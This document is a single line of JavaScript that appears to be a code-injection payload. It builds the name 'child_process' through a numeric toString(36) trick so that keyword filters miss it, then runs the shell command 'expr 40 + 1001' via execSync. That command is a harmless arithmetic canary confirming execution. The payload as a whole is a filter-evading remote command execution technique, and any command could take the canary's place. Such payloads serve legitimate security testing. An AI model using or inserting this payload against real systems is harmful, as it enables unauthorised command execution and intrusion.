require('child_'+(1551849337..toString(36)&&'process')).execSync('expr 40 + 1001',{stdio:'inherit'});
